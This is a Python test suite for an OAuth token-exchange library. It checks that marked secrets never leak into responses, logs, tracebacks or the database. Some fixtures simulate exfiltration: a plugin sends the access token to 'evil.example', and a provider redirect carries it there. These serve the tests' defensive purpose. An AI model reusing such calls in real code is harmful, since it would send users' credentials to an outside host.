"""The hunt: every secret sent carries a mark, and no mark may come to light anywhere."""

import asyncio
import base64
import json
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import jwt
import pytest
from core.tests.acme import ADA, Acme, acme_that, answer
from core.tests.bench import EVERYTHING, GOOD, Bench, bench, good_request

from accredit import AccreditError, ExtraClaims, Login, ProviderToken, VerifyContext, hookimpl
from accredit.credentials import AccessToken, Credential
from accredit.errors import PluginFailed
from accredit.oauth.wire.parse import parse
from accredit.storage import SqliteStorage

pytestmark = pytest.mark.slow

MARK = "mArKeD"
TOKEN, SECRET, NONCE, BEARER, MAIN, APP_SECRET = (f"{MARK}-{name}" for name in "tsnbma")
SENT: dict[str, Any] = {
    "access_token": TOKEN,
    "access_token_secret": SECRET,
    "nonce": NONCE,
    "scope": EVERYTHING,
    "device": "phone",
}
SETTINGS = {"connections": {"acme": {"app_secret": APP_SECRET}}}


async def _quotes(token: Credential, _: VerifyContext) -> None:
    secret = token.secret if isinstance(token, AccessToken) else None
    raise ValueError(f"{token.reveal()} {secret and secret.get_secret_value()}")


async def _quotes_in_a_chain(token: Credential, _: VerifyContext) -> None:
    try:
        raise KeyError(token.reveal())
    except KeyError as exc:
        raise PluginFailed("while asking") from exc


async def _calls_elsewhere(token: Credential, ctx: VerifyContext) -> None:
    await ctx.http.get(f"https://evil.example/{token.reveal()}", params={"access_token": token.reveal()})


async def _hangs(_: Credential, __: VerifyContext) -> None:
    await asyncio.Event().wait()


class Quoting:
    """Hooks that quote what they know."""

    def __init__(self, hook: str) -> None:
        self.hook = hook

    @hookimpl
    async def authorize(self, login: Login) -> None:
        if self.hook == "authorize":
            raise ValueError(MARK)

    @hookimpl
    async def claims(self, login: Login) -> ExtraClaims:
        if self.hook == "claims":
            raise ValueError(MARK)
        return ExtraClaims()

    @hookimpl
    def observe(self) -> None:
        if self.hook == "observe":
            raise ValueError(MARK)


def _provider_accepts(wire: Bench) -> None:
    wire.provider.people[TOKEN] = ADA


def _provider_quotes(wire: Bench) -> None:
    wire.provider.answer = answer(500, {"error": f"bad token {TOKEN}"}, location=TOKEN)


def _provider_redirects(wire: Bench) -> None:
    wire.provider.answer = answer(302, {}, location=f"https://evil.example/?access_token={TOKEN}")


def _provider_is_down(wire: Bench) -> None:
    wire.provider.error = httpx.ConnectError(f"cannot reach /me?access_token={TOKEN}&app_secret={APP_SECRET}")


def _provider_times_out(wire: Bench) -> None:
    wire.provider.error = httpx.ReadTimeout(TOKEN)


def _provider_refuses(_: Bench) -> None:
    """Refuse, as it does any token it does not know."""


PATHS: dict[str, tuple[type[Acme], str, dict[str, Any], Callable[[Bench], None], int]] = {
    "accepted": (Acme, "", {}, _provider_accepts, 200),
    "accepted, observer fails": (Acme, "observe", {}, _provider_accepts, 200),
    "refused": (Acme, "", {}, _provider_refuses, 401),
    "foreign": (Acme, "", {"connection": "acme-game", "client_id": "other"}, _provider_accepts, 401),
    "upstream text": (Acme, "", {}, _provider_quotes, 500),
    "redirect": (Acme, "", {}, _provider_redirects, 503),
    "down": (Acme, "", {}, _provider_is_down, 503),
    "transport timeout": (Acme, "", {}, _provider_times_out, 503),
    "crash": (acme_that(_quotes), "", {}, _provider_accepts, 500),
    "crash in a chain": (acme_that(_quotes_in_a_chain), "", {}, _provider_accepts, 500),
    "undeclared host": (acme_that(_calls_elsewhere), "", {}, _provider_accepts, 500),
    "deadline": (acme_that(_hangs), "", {}, _provider_accepts, 503),
    "authorize crashes": (Acme, "authorize", {}, _provider_accepts, 500),
    "claims crash": (Acme, "claims", {}, _provider_accepts, 500),
    "wrong field 1": (Acme, "", {"client_id": TOKEN}, _provider_accepts, 403),
    "wrong field 2": (Acme, "", {"connection": TOKEN}, _provider_accepts, 400),
    "wrong field 3": (Acme, "", {"scope": f"openid {TOKEN}"}, _provider_accepts, 200),
    "wrong field 4": (Acme, "", {"user_id": TOKEN}, _provider_accepts, 401),
    "wrong field 5": (Acme, "", {"audience": TOKEN}, _provider_accepts, 400),
    "no string": (Acme, "", {"access_token": [TOKEN]}, _provider_accepts, 400),
    "control character": (Acme, "", {"access_token": f"{TOKEN}\n"}, _provider_accepts, 400),
    "linking": (Acme, "", {"main_access_token": MAIN}, _provider_accepts, 401),
    "bad bearer": (Acme, "", {"client_id": "strict"}, _provider_accepts, 401),
}


def _chain(error: BaseException | None) -> Iterator[BaseException]:
    """Yield an error and everything that a traceback or an error tracker shows below it."""
    while error is not None:
        yield error
        error = error.__cause__ or (None if error.__suppress_context__ else error.__context__)


def _told(error: BaseException) -> str:
    told = [*traceback.format_exception(error), *(f"{one} {one!r} {one.args!r}" for one in _chain(error))]
    return "\n".join(told)


def _stored(folder: Path) -> bytes:
    """Read the database with its journals; it has been closed."""
    return b"".join(file.read_bytes() for file in sorted(folder.iterdir()))


def _without_our_tokens(response: httpx.Response) -> str:
    body = response.json()
    for name in ("access_token", "id_token", "refresh_token"):
        body.pop(name, None)
    return f"{body} {response.headers.multi_items()}"


@pytest.mark.threat(33)
@pytest.mark.parametrize("path", PATHS)
async def test_no_secret_comes_to_light(
    path: str, tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    acme, hook, changed, prepare, status = PATHS[path]
    database = tmp_path / "grants.db"
    settings = {**SETTINGS, "limits": {"exchange_timeout_s": 0.01 if path == "deadline" else 10}}
    async with bench(settings, acme=acme, plugins=[Quoting(hook)], storage=SqliteStorage(str(database))) as wire:
        prepare(wire)
        headers = {"Authorization": f"Bearer {BEARER}"}

        response = await wire.post(headers, **{**SENT, **changed})

        assert response.status_code == status
        issued = [value for name, value in response.json().items() if name.endswith("_token")]
        seen = [
            _without_our_tokens(response),
            repr(wire.events),
            repr(wire.log.lines),
            caplog.text,
            *capfd.readouterr(),
        ]
        for place in seen:
            assert MARK not in place
            assert not [token for token in issued if token in place]
    stored = _stored(tmp_path)
    assert stored.startswith(b"SQLite format 3\0")
    assert MARK.encode() not in stored
    assert base64.b64encode(MARK.encode()) not in stored
    assert not [token for token in issued if token.encode() in stored]


def _read(token: str) -> dict[str, Any]:
    claims: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return claims


async def test_the_nonce_is_in_the_id_token_and_in_no_other() -> None:
    async with bench(SETTINGS) as wire:
        _provider_accepts(wire)
        body = (await wire.post(**SENT)).json()

    assert _read(body["id_token"])["nonce"] == NONCE
    assert MARK not in repr({**_read(body["id_token"]), "nonce": ""})
    assert MARK not in repr(_read(body["access_token"]))
    assert MARK not in body["refresh_token"]


@pytest.mark.threat(33)
@pytest.mark.parametrize(
    "path", [name for name, path in PATHS.items() if path[4] >= 500 or name in {"refused", "foreign"}]
)
async def test_no_error_that_the_python_call_raises_tells_a_secret(path: str) -> None:
    acme, hook, changed, prepare, _ = PATHS[path]
    settings = {**SETTINGS, "limits": {"exchange_timeout_s": 0.01 if path == "deadline" else 10}}
    async with bench(settings, acme=acme, plugins=[Quoting(hook)]) as wire:
        prepare(wire)
        request = good_request(token=ProviderToken.of(TOKEN, secret=SECRET, nonce=NONCE), **changed)

        with pytest.raises(AccreditError) as raised:
            await wire.exchange(request)

        assert MARK not in _told(raised.value)


_JSON = json.dumps({**GOOD, "access_token": TOKEN})


@pytest.mark.threat(33)
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (_JSON[:-1].encode(), "application/json"),
        (_JSON.encode() + b"\xff", "application/json"),
        (f"{TOKEN}&{urlencode(GOOD)}".encode(), "application/x-www-form-urlencoded"),
        (f"access_token={TOKEN}%ff".encode(), "application/x-www-form-urlencoded"),
        (f"access_token={TOKEN}&access_token={TOKEN}".encode(), "application/x-www-form-urlencoded"),
        (_JSON.encode(), "text/plain"),
        (json.dumps({**GOOD, "access_token": f"{TOKEN}\n"}).encode(), "application/json"),
        (json.dumps({"access_token": TOKEN}).encode(), "application/json"),
    ],
)
async def test_no_error_about_a_body_quotes_it(body: bytes, content_type: str) -> None:
    with pytest.raises(AccreditError) as raised:
        parse(body, content_type=content_type)

    assert MARK not in _told(raised.value)
